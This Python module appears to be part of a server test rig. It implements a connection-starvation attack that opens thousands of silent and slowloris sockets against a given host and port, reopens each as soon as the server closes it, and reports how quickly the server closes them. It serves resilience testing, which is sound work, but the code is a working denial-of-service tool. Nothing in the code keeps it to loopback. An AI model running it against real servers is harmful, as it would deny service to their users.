"""A connection-starvation attack on one address: silent sockets (connect, never send a byte) and
slowloris sockets (a request head trickled one byte a second), each reopened as soon as the
server closes it, so the counts hold for the whole attack. Loopback only; bounded in time.

``python -m rig.attack HOST PORT --silent 10000 --slowloris 1000 --seconds 30``
prints one ``ATTACK_JSON {...}`` line at the end: connections opened, closed by the server and
how long the server took to close them.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import time
from dataclasses import dataclass, field
from typing import Any, cast

import uvloop

from kernel.fd_limit import raise_open_files_limit

SUMMARY_PREFIX = "ATTACK_JSON "
# Printed once every socket has tried to connect and the server has closed one (in full swing):
# what a test waits for before it measures a buyer.
READY_LINE = "ATTACK_READY"
SLOW_HEAD = b"POST /api/flash-sales/items/1/purchase HTTP/1.1\r\nHost: x\r\nX-Slow: "
DRIP_S = 1.0  # slowloris: one byte a second, so a timer that restarts on every byte never fires
RECONNECT_PAUSE_S = 0.05  # after a failed connect: the listen queue was full


@dataclass
class Tally:
    opened: int = 0
    failed: int = 0
    closed_by_server: int = 0
    lifetimes: list[float] = field(default_factory=list)  # connect → the server's close, seconds

    def summary(self) -> dict[str, Any]:
        ordered = sorted(self.lifetimes)

        def at(q: float) -> float:
            return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else 0.0

        return {
            "opened": self.opened,
            "failed_connects": self.failed,
            "closed_by_server": self.closed_by_server,
            "lifetime_p50_s": at(0.5),
            "lifetime_p99_s": at(0.99),
            "lifetime_max_s": ordered[-1] if ordered else 0.0,
        }


class Attacker(asyncio.Protocol):
    """One attacking socket's connection: it sends nothing (silent) or is fed the head a byte at
    a time by ``Attack``'s one timer (slowloris); when the server closes it, another opens."""

    def __init__(self, attack: Attack, drip: bool) -> None:
        self.attack = attack
        self.drip = drip
        self.sent = 0
        self.opened = 0.0
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        # From here, not from the factory's call: a connect may wait seconds for a full listen
        # queue, and that is not the server's timer running.
        self.opened = time.monotonic()
        self.transport = cast(asyncio.Transport, transport)  # uvloop's is not a subclass
        self.attack.tally.opened += 1
        if self.drip:
            self.attack.dripping.add(self)

    def data_received(self, data: bytes) -> None:
        pass  # a 408 or an error page: the close follows

    def drip_one(self) -> None:
        assert self.transport is not None
        if self.sent < len(SLOW_HEAD):
            self.transport.write(SLOW_HEAD[self.sent : self.sent + 1])
        else:
            self.transport.write(b"a")  # the header value never ends
        self.sent += 1

    def connection_lost(self, exc: Exception | None) -> None:
        self.attack.dripping.discard(self)
        if not self.attack.over:
            self.attack.tally.closed_by_server += 1
            self.attack.tally.lifetimes.append(time.monotonic() - self.opened)
            self.attack.open(self.drip)


class Attack:
    """Protocols and one drip timer, not a task per socket: 11,000 sockets cost the attacker
    little more than the reconnects themselves, so it starves no one but the server it attacks
    (with streams and a wait_for per socket a second, it took most of a core)."""

    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.tally = Tally()
        self.over = False
        self.dripping: set[Attacker] = set()
        self.pending: set[asyncio.Task[None]] = set()
        self.first_tries = 0

    def open(self, drip: bool) -> None:
        task = asyncio.get_running_loop().create_task(self._connect(drip))
        self.pending.add(task)
        task.add_done_callback(self.pending.discard)

    async def _connect(self, drip: bool) -> None:
        loop = asyncio.get_running_loop()
        first = True
        while not self.over:
            try:
                await loop.create_connection(lambda: Attacker(self, drip), self.host, self.port)
                return
            except OSError:
                self.tally.failed += 1
                await asyncio.sleep(RECONNECT_PAUSE_S)
            finally:
                if first:  # this socket's first connect has an outcome, either way
                    self.first_tries += 1
                    first = False

    async def run(self, silent: int, slowloris: int, seconds: float) -> Tally:
        until = time.monotonic() + seconds
        for n in range(silent + slowloris):
            self.open(drip=n >= silent)
        announced = False
        while (left := until - time.monotonic()) > 0:
            await asyncio.sleep(min(left, DRIP_S))
            # Every socket has tried once (a full listen queue may refuse some: they retry)
            # and the server is closing them: the attack is in full swing.
            swinging = self.first_tries >= silent + slowloris and self.tally.closed_by_server
            if swinging and not announced:
                print(READY_LINE, flush=True)
                announced = True
            for conn in list(self.dripping):
                conn.drip_one()
        self.over = True
        for conn in list(self.dripping):
            if conn.transport is not None:
                conn.transport.abort()
        for task in list(self.pending):
            task.cancel()
        return self.tally


async def until_closed(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drip: bool, until: float
) -> bool:
    """One probing stream (tests time a server's close with it; the attack itself is
    ``Attack``): wait, dripping the head a byte at a time if asked, until the server closes:
    True, or ``until`` passes first: False."""
    sent = 0
    while (left := until - time.monotonic()) > 0:
        if drip:
            if sent < len(SLOW_HEAD):
                writer.write(SLOW_HEAD[sent : sent + 1])
            else:
                writer.write(b"a")  # the header value never ends
            sent += 1
        try:
            data = await asyncio.wait_for(reader.read(4096), min(left, DRIP_S))
        except TimeoutError:
            continue
        except OSError:
            return True
        if not data:
            return True
    return False


async def attack(host: str, port: int, silent: int, slowloris: int, seconds: float) -> Tally:
    return await Attack(host, port).run(silent, slowloris, seconds)


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m rig.attack", description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--silent", type=int, default=10_000)
    parser.add_argument("--slowloris", type=int, default=1_000)
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args()
    raise_open_files_limit(args.silent + args.slowloris + 256)
    tally = uvloop.run(attack(args.host, args.port, args.silent, args.slowloris, args.seconds))
    print(SUMMARY_PREFIX + json.dumps(tally.summary()), flush=True)


if __name__ == "__main__":
    main()
